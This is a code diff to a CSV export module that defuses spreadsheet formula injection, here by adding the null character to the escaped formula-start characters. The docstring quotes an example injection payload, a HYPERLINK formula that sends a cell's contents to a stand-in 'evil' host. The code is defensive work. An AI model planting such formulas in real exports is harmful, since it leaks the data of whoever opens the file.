@@ -1,8 +1,8 @@
 """The one way Steward writes CSV: cells a spreadsheet would run as a formula are defused.
 
 CSV injection (OWASP "CSV Injection"; ASVS 5.0 V1.2.10): a cell starting with ``=``,
-``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice and
-Google Sheets, so a request titled ``=HYPERLINK("http://evil/?"&A1, "Click")`` would run
+``+``, ``-``, ``@``, a tab, a carriage return or a null character is a formula (or can be
+made to start one) to Excel, LibreOffice and Google Sheets, so a request titled ``=HYPERLINK("http://evil/?"&A1, "Click")`` would run
 on the desk manager's machine when they open the export. Such a text cell gets one
 leading apostrophe, which spreadsheets take as "this is text" and do not show.
 
@@ -26,9 +26,9 @@ from collections.abc import Iterable, Mapping, Sequence
 from decimal import Decimal
 from typing import Any, Protocol
 
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
 LINE_END = "\r\n"
-_ESCAPED = re.compile(r"'*[=+\-@\t\r]")
+_ESCAPED = re.compile("'*[=+\\-@\t\r\0]")
 
 
 def escape(value: Any) -> Any:
